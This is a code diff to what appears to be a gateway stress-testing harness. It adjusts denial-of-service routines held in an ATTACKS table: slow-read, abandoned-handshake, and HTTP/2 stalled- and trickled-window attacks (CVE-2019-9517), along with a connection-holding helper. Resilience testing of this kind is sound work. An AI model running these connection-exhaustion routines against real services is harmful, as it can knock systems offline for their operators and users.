@@ -110,7 +110,7 @@ class Connection:
 def hold(open_one, until, count, drip=b"", every=1.0, read=65_536):
     """So many connections at once, each sent a few bytes now and then; those that the gateway ends are opened anew.
 
-    `read` bytes are taken each time, none with 0.
+    At most `read` bytes are taken each time.
     """
     met, held = collections.Counter(), []
     while time.monotonic() < until:
@@ -120,8 +120,7 @@ def hold(open_one, until, count, drip=b"", every=1.0, read=65_536):
             held.append(connection)
         time.sleep(max(0, min(every, until - time.monotonic())))
         for connection in held:
-            if read:
-                connection.look(most=read)
+            connection.look(most=read)
             if drip and connection.end is None:
                 connection.send(drip)
             if connection.end:
@@ -204,7 +203,7 @@ def slow_post(target, until):
 def slow_read(target, until):
     """Large answers that are hardly read."""
     first = f"GET {target.large} HTTP/1.1\r\nHost: bench\r\n\r\n".encode()
-    return hold(http1(target, first, receive_buffer=4_096), until, 50, read=1)
+    return hold(http1(target, first, receive_buffer=4_096), until, 30, read=1)
 
 
 def pipelining(target, until):
@@ -262,7 +261,7 @@ def abandoned_handshakes(target, until):
         connection.send(next(turns))
         return connection
 
-    return hold(open_one, until, 100, read=0)
+    return hold(open_one, until, 100)
 
 
 def handshake_storm(target, until):
@@ -354,14 +353,14 @@ def empty_data(target, until):
 def stalled_windows(target, until):
     """Large answers on every stream, and a window that never opens (CVE-2019-9517)."""
     first = b"".join(frames.get(stream, target.large) for stream in range(1, 200, 2))
-    return hold(http2(target, first, settings=[(frames.INITIAL_WINDOW_SIZE, 0)]), until, 20)
+    return hold(http2(target, first, settings=[(frames.INITIAL_WINDOW_SIZE, 0)]), until, 1)
 
 
 def trickled_windows(target, until):
     """Large answers, read a byte at a time."""
     first = b"".join(frames.get(stream, target.large) for stream in range(1, 40, 2))
     drip = b"".join(frames.window_update(stream, 1) for stream in range(1, 40, 2))
-    return hold(http2(target, first, settings=[(frames.INITIAL_WINDOW_SIZE, 0)]), until, 20, drip)
+    return hold(http2(target, first, settings=[(frames.INITIAL_WINDOW_SIZE, 0)]), until, 2, drip)
 
 
 ATTACKS = {
